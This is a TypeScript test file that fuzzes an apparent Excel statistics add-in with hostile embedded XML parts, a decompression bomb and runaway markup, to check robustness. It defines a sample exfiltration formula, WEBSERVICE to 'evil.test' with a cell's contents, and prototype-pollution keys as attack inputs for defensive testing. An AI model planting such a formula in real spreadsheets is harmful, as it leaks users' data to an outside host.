import { deflateSync } from "fflate";
import { afterEach, expect, it } from "vitest";
import { decodePart, encodePart } from "../../../src/workbook/parts/encode-part.js";
import { statisticAnswer } from "../../support/statistic-answer.js";
import { fc } from "../../support/properties.js";
import { watchLoad } from "../../addin/hostile/watch-load.js";
import { openCared, type CaredWorkbench } from "../../support/workbook/workbook-care.js";

let cared: CaredWorkbench | undefined;
afterEach(() => {
  cared?.workbench.dispose();
  cared = undefined;
});

const namespaces = ["snapshot", "options", "frozen"].map((kind) => `urn:stat-for-excel:${kind}`);
const base64 = (bytes: Uint8Array) => Buffer.from(bytes).toString("base64");
const element = (namespace: string, body: string, version = "1") =>
  `<stat xmlns="${namespace}" version="${version}" encoding="deflate-base64">${body}</stat>`;

/** A formula that fetches, in every place where a part can have one. */
const evil = '=WEBSERVICE("https://evil.test/"&A1)';
const frozen = (formula: unknown) => ({
  name: "STAT_FROZEN_1",
  sheetId: "{00000001}",
  sheetName: "Sheet1",
  address: "A1",
  formula,
  references: [{ start: 1, end: 3, name: "STAT_FROZEN_2", address: "Sheet1!A1" }],
  rowCount: 1,
  columnCount: 1,
  values: [[1]],
  frozenAt: 1,
  spills: [{ start: 1, of: "STAT_FROZEN_1", zone: "STAT_FROZEN_3", address: "Sheet1!A1" }],
});
const odd = fc.oneof(
  fc.jsonValue(),
  fc.constantFrom(evil, "__proto__", 1e308, -1, 4_102_444_800_000, [], {}, "\n=1", null),
);
const entry = fc.record(
  { operation: odd, parameters: odd, value: odd, fetchedAt: odd, source: odd },
  { requiredKeys: [] },
);
const data = fc.oneof(
  fc.jsonValue(),
  fc.dictionary(fc.constantFrom("a", "__proto__", "STAT_FROZEN_1", "toString"), entry),
  fc.record({ refreshOnOpen: odd, budget: odd, spent: odd }, { requiredKeys: [] }),
  fc.record({ STAT_FROZEN_1: odd.map(frozen) }),
  fc.constant({ STAT_FROZEN_1: frozen(evil) }),
  fc.constant({ STAT_FROZEN_1: { ...frozen(evil), spills: undefined } }),
);
const part = fc.oneof(
  fc
    .tuple(fc.constantFrom(...namespaces), data, fc.integer({ min: 0, max: 3 }))
    .map(([namespace, what, version]) => encodePart(namespace, { version, data: what })),
  fc
    .tuple(fc.constantFrom(...namespaces), fc.uint8Array({ maxLength: 400 }))
    .map(([namespace, bytes]) => element(namespace, base64(bytes))),
  fc
    .tuple(fc.constantFrom(...namespaces), fc.constantFrom("", "9", "-1", "1e9", "999999999"))
    .map(([namespace, version]) => element(namespace, "AAAA", version)),
  fc.constantFrom(...namespaces).map((namespace) => {
    const deep = `${"[".repeat(20_000)}${"]".repeat(20_000)}`;
    return element(namespace, base64(deflateSync(Buffer.from(deep))));
  }),
);

it("500 hostile parts stop no operation, write no formula and ask nobody", async () => {
  cared = await openCared(() => ({ body: statisticAnswer(7, { "2019": 1 }) }));
  const { workbench, operations, snapshot, options } = cared;
  workbench.enter("D1", "=STAT.DATA(7)");
  await workbench.idle();
  const asked = workbench.requests.length;
  const tasks: Record<string, () => Promise<unknown>> = {
    figures: () => snapshot.load(),
    options: () => options.load(),
    damaged: () => operations.findDamaged(),
    plan: () => operations.plan({ scope: { kind: "workbook" }, only: "stale" }),
    thaw: () => operations.thaw(),
    freeze: () => operations.freeze({ kind: "selection" }),
    keep: () => operations.keepSnapshot(),
    sources: () => operations.writeSources(),
    audit: () => operations.writeAudit(),
    refreshOnOpen: () => operations.refreshOnOpen(),
  };
  const parts = fc.sample(part, { numRuns: 500, seed: 13 });
  const load = watchLoad();
  load.begin();
  const putParts = (from: number) =>
    workbench.run(async (context) => {
      const { customXmlParts } = context.workbook;
      customXmlParts.load("items/id");
      await context.sync();
      for (const old of customXmlParts.items) old.delete();
      for (const xml of parts.slice(from, from + 12)) customXmlParts.add(xml);
      await context.sync();
    });
  for (let at = 0; at < parts.length; at += 12) {
    await putParts(at);
    for (const [name, task] of Object.entries(tasks)) {
      await task().catch((error: unknown) => {
        // A part of a newer version is the one reason to refuse, with a sentence.
        expect((error as Error).message, name).toContain("newer version of the add-in");
      });
      load.look(`${name}, parts from ${String(at)} on`, async () => {
        await putParts(at);
        await task().catch(() => undefined);
      });
    }
  }
  const { cells } = {
    cells: ["A1", "B1", "A2"].map((at) => workbench.cell(`Sheet1!${at}`).formula),
  };
  expect(cells.filter((formula) => formula !== undefined)).toEqual([]);
  expect(workbench.cell("Sheet1!D1").formula).toBe("=STAT.DATA(7)");
  expect(workbench.requests).toHaveLength(asked);
  await load.report("500 hostile parts × every operation, the workbench in the same process");
}, 3_600_000);

/** Of what a part holds, unpacked. */
const maxInflatedBytes = 10_000_000;

it("stops inflating where a part grows beyond its limit", () => {
  const bomb = deflateSync(new Uint8Array(maxInflatedBytes * 20), { level: 9 });
  const before = process.memoryUsage().arrayBuffers;
  expect(decodePart(element(namespaces[0] ?? "", base64(bomb)))).toBeUndefined();
  expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(64_000_000);
});

it("reads markup that goes on and on in a time that grows with its length alone", () => {
  const steps = (count: number) => {
    const xml = `${'<stat version="1" '.repeat(count)}>`;
    const start = performance.now();
    expect(decodePart(xml)).toBeUndefined();
    return performance.now() - start;
  };
  steps(1000);
  // 2 MB: with backtracking this took minutes.
  expect(steps(120_000)).toBeLessThan(2000);
});
